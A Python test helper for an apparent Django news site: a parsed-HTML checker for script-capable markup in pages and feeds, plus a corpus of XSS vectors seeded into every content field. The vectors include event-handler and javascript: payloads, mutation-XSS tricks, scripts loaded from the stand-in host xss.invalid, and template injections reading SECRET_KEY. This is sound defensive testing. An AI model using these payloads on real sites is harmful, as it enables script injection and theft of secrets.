"""Parsed-HTML checks for hostile input: what a page, a decoded feed field or
an admin page may contain, read the way an HTML5 parser (and so a browser or
feed reader) reads it, not by searching strings."""

from __future__ import annotations

import json
import unicodedata
import xml.etree.ElementTree as ET

import html5lib

DANGEROUS_SCHEMES = ("javascript", "vbscript", "data", "livescript")
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "poster", "background", "srcset",
    "cite", "longdesc", "lowsrc", "dynsrc", "ping", "xlink:href", "to", "from", "values",
}  # fmt: skip
FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal"}
# Scripts the site itself ships: static files, JSON-LD, the admin editor's import map.
OUR_SCRIPT_TYPES = {"application/ld+json", "importmap", "application/json"}


def local(name: str) -> str:
    return name.rpartition("}")[2].lower()


def scheme_of(url: str) -> str:
    """The scheme a browser could read in ``url``, after dropping what it ignores."""
    folded = unicodedata.normalize("NFKC", url).replace("\ufffd", "")
    visible = "".join(
        c for c in folded if not c.isspace() and unicodedata.category(c)[0] not in "CZ"
    ).lower()
    head = visible.split(":", 1)
    return head[0] if len(head) == 2 and head[0].isascii() and head[0].isalpha() else ""


def parse(markup: str | bytes):
    return html5lib.parse(markup, treebuilder="etree", namespaceHTMLElements=False)


def problems(markup: str | bytes, *, where: str = "", script_src_prefixes=("/static/",)) -> list:
    """Everything in ``markup`` that could run script, as (where, what) pairs:
    scripts that are not ours, event handler attributes, dangerous URL schemes,
    frames and objects, refresh redirects, and JSON-LD that does not parse."""
    found = []
    for element in parse(markup).iter():
        if not isinstance(element.tag, str):
            continue  # comments
        tag = local(element.tag)
        attributes = {local(k): v for k, v in element.attrib.items()}
        if tag == "script":
            kind = attributes.get("type", "").lower()
            src = attributes.get("src")
            if (
                src is not None
                and src.startswith(script_src_prefixes)
                and not (element.text or "").strip()
            ):
                # A file of ours: /static/… (and the admin's /admin/jsi18n/).
                pass
            elif kind in OUR_SCRIPT_TYPES and src is None:
                if kind == "application/ld+json":
                    try:
                        json.loads(element.text or "")
                    except ValueError:
                        found.append((where, f"JSON-LD that does not parse: {element.text!r:.200}"))
            else:
                found.append((where, f"script: {attributes} {element.text!r:.120}"))
        if tag in FORBIDDEN_TAGS:
            found.append((where, f"<{tag}> {attributes}"))
        if tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
            found.append((where, f"meta refresh {attributes}"))
        for name, value in attributes.items():
            if name.startswith("on"):
                found.append((where, f"<{tag} {name}={value!r:.80}>"))
            elif name in URL_ATTRIBUTES or name.endswith("href"):
                for part in value.split(",") if name == "srcset" else [value]:
                    if scheme_of(part) in DANGEROUS_SCHEMES:
                        found.append((where, f"<{tag} {name}={value!r:.80}>"))
            elif name == "style" and ("expression(" in value or "url(" in value.lower()):
                found.append((where, f"<{tag} style={value!r:.80}>"))
    return found


RSS_HTML = {"description", "{http://purl.org/rss/1.0/modules/content/}encoded"}
ATOM = "{http://www.w3.org/2005/Atom}"


def feed_problems(xml: bytes, *, where: str = "") -> list:
    """``problems()`` of every HTML-bearing field of an RSS or Atom document,
    decoded as a feed reader decodes it; plain-text fields must stay text."""
    found = []
    root = ET.fromstring(xml)
    for element in root.iter():
        text = element.text or ""
        if element.tag in RSS_HTML or (
            element.tag.startswith(ATOM) and element.get("type") in ("html", "xhtml")
        ):
            if element.tag in (f"{ATOM}title", f"{ATOM}subtitle", f"{ATOM}rights"):
                found.append((where, f"{element.tag} declared as HTML"))
            found += problems(text, where=f"{where} {element.tag}", script_src_prefixes=())
    return found


# The corpus ---------------------------------------------------------------------
#
# Our own vectors, by family. Each goes into every input that exists today
# (``build_corpus``); a name field takes as much as fits.

SCRIPT_TAGS = [
    "<script>alert('s1')</script>",
    "<ScRiPt>confirm('s2')</sCrIpT>",
    "<script src=//xss.invalid/s3.js></script>",
    "<script/x>alert('s4')</script>",
    "<<script>alert('s5')//<</script>",
    "</title><script>alert('s6')</script>",
    "</textarea><script>alert('s7')</script>",
    "</script><script>alert('s8')</script>",
    "<script>alert('s9')<!--",
]
EVENT_HANDLERS = [
    "<img src=x onerror=alert('e1')>",
    "<img/src=x/onerror=alert('e2')>",
    '<img src="x" oNeRrOr="alert(`e3`)">',
    "<body onload=alert('e4')>",
    "<svg onload=alert('e5')>",
    "<details open ontoggle=alert('e6')>",
    "<input autofocus onfocus=alert('e7')>",
    "<video><source onerror=alert('e8')></video>",
    "<div onmouseover=\"alert('e9')\">hover me</div>",
    "<audio src=x onerror=prompt('e10')>",
    "<img src=x onerror=&#97;lert('e11')>",
]
URL_SCHEMES = [
    "<a href=\"javascript:alert('u1')\">u1</a>",
    "<a href=\"JaVaScRiPt:alert('u2')\">u2</a>",
    "<a href=\"&#106;avascript:alert('u3')\">u3</a>",
    "<a href=\"&#x6A;avascript&colon;alert('u4')\">u4</a>",
    "<a href=\"java&#x09;script:alert('u5')\">u5</a>",
    "<a href=\"java\u200bscript:alert('u6')\">u6</a>",
    "<a href=\"\x01\x02javascript:alert('u7')\">u7</a>",
    "<a href=\"  javascript:alert('u8')\">u8</a>",
    "<a href=\"vbscript:msgbox('u9')\">u9</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgndTEwJyk8L3NjcmlwdD4=">u10</a>',
    "<a href=\"data:text/html,<script>alert('u11')</script>\">u11</a>",
    "<iframe src=\"javascript:alert('u12')\"></iframe>",
    "<form action=\"javascript:alert('u13')\"><button>u13</button></form>",
    "<object data=\"javascript:alert('u14')\"></object>",
    "<embed src=\"javascript:alert('u15')\">",
    "<base href=\"javascript:alert('u16')//\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert('u17')\">",
    "<a href=\"ｊａｖａｓｃｒｉｐｔ:alert('u18')\">u18</a>",
    "<img src=\"javascript:alert('u19')\">",
    "<a href=\"java\u00adscript:alert('u20')\">u20</a>",
]
SVG_AND_MATHML = [
    "<svg><script>alert('m1')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('m2')\"><text y=20>m2</text></a></svg>",
    "<svg><animate onbegin=alert('m3') attributeName=x dur=1s>",
    "<svg><a><set attributeName=href to=\"javascript:alert('m4')\"/><text>m4</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=alert('m5')></foreignObject></svg>",
    "<math href=\"javascript:alert('m6')\"><mi>m6</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('m7')>",
]
CSS = [
    "<style>@import 'javascript:alert(\"c1\")';</style>",
    "<div style=\"background:url(javascript:alert('c2'))\">c2</div>",
    "<p style=\"width:expression(alert('c3'))\">c3</p>",
    "<link rel=stylesheet href=\"javascript:alert('c4')\">",
    "<style>*{background:url('//xss.invalid/c5')}</style><p>c5</p>",
]
MUTATION = [
    "<noscript><p title=\"</noscript><img src=x onerror=alert('x1')>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert('x2')>\">",
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea>'
    "<img onerror=alert('x3') src=1>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('x4')>",
    "<template><img src=x onerror=alert('x5')></template>",
    "<!--><img src=x onerror=alert('x6')>-->",
    "<![CDATA[><img src=x onerror=alert('x7')>]]>",
    "<xmp><img src=x onerror=alert('x8')></xmp>",
    "<title><img src=x onerror=alert('x9')></title>",
]
ATTRIBUTE_BREAKING = [
    "\" onmouseover=\"alert('a1')",
    "' onfocus='alert(`a2`)' autofocus='",
    "\"><img src=x onerror=alert('a3')>",
    "'><svg onload=alert('a4')>",
    "` onerror=alert('a5') `",
    'x" autofocus onfocus="alert(\'a6\')" y="',
    "\"}]</script><script>alert('a7')</script>",
    "\\u003c/script\\u003e\\u003cscript\\u003ealert('a8')\\u003c/script\\u003e",
]
UNICODE = [
    "＜script＞alert('n1')＜/script＞",
    "\u202eevil\u202c<script>alert('n2')</script>",
    "\u2066admin\u2069 <img src=x onerror=alert('n3')>",
    "<scr\u0131pt>alert('n4')</scr\u0131pt>",
    "\u2039script\u203aalert('n5')\u2039/script\u203a",
    "<scr\x00ipt>alert('n6')</script>",
    "Ana\u202e\u2067moc.elpmaxe\u2069",
    "line\u2028break\u2029<img src=x onerror=alert('n8')>",
]
TEMPLATE_INJECTION = [
    "{{7*7}} t1",
    "{% debug %} t2",
    "{{ request.META }} t3",
    "{% load log %}{% get_admin_log 10 as log %}{{ log }} t4",
    "${7*7} #{7*7} t5",
    "{{ settings.SECRET_KEY }} t6",
    "{% include 'base.html' %} t7",
]

VECTORS = [
    *SCRIPT_TAGS,
    *EVENT_HANDLERS,
    *URL_SCHEMES,
    *SVG_AND_MATHML,
    *CSS,
    *MUTATION,
    *ATTRIBUTE_BREAKING,
    *UNICODE,
    *TEMPLATE_INJECTION,
]
BIDI_CONTROLS = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def build_corpus(per_article: int = 1) -> list[dict]:
    """One article per vector, the vector in each of its inputs: title, dek,
    summary, SEO title and description, body (as markup, as an [embed] URL and
    in an Instagram URL's query), its library lead image's alt text, caption and credit; its own
    category (name, description), author (name, bio), tag (name) and
    Instagram embed (URL's row: author name and handle, title, caption).

    Import content: tests/articles/wordpress/test_import_xss.py puts the same
    vectors into a WordPress export.

    ``per_article`` > 1 puts that many vectors, one after another, into each
    article and its rows, for the browser, where a page load is the cost. A
    field too short for them all gets as much as fits.
    """
    from django.utils import timezone

    from articles import images, services
    from articles.models import Article, Author, Category
    from embeds.models import Embed
    from tests.articles import pictures

    rows = []
    now = timezone.now()
    groups = [VECTORS[i : i + per_article] for i in range(0, len(VECTORS), per_article)]
    for n, group in enumerate(groups):
        vector = "".join(group)
        post = f"https://www.instagram.com/p/Xss{n}/"
        category = Category.objects.create(name=vector[:100], slug=f"xss-c{n}", description=vector)
        author = Author.objects.create(name=vector[:150], slug=f"xss-a{n}", bio=vector)
        embed = Embed.objects.create(
            url=post,
            author_name=vector[:200],
            author_handle=vector[:100],
            title=vector[:300],
            caption=vector,
        )
        article = Article(
            title=vector[:200],
            slug=f"xss-{n}",
            dek=vector,
            summary=vector,
            seo_title=vector[:200],
            seo_description=vector[:300],
            body=(
                "".join(
                    f"<p>{v}</p>{v}<p>[embed]{v}[/embed]</p><p>[embed]{post}?{v}[/embed]</p>"
                    for v in group
                )
                + f"<p>{post}</p>"
            ),
            image=images.ingest(
                pictures.png(48, 32),
                alt=vector[:250],
                caption=vector[:300],
                credit=vector[:150],
            ),
            category=category,
            status=Article.Status.PUBLISHED,
            published_at=now - timezone.timedelta(minutes=n + 1),
        )
        # Tags come in as names through the write path, as the admin sends them.
        services.save_article(article, authors=[author], tags=[f"{vector[:90]} {n}"])
        tag = article.tags.get()
        rows.append(
            {"vector": vector, "article": article, "category": category, "author": author,
             "tag": tag, "embed": embed}
        )  # fmt: skip
    return rows
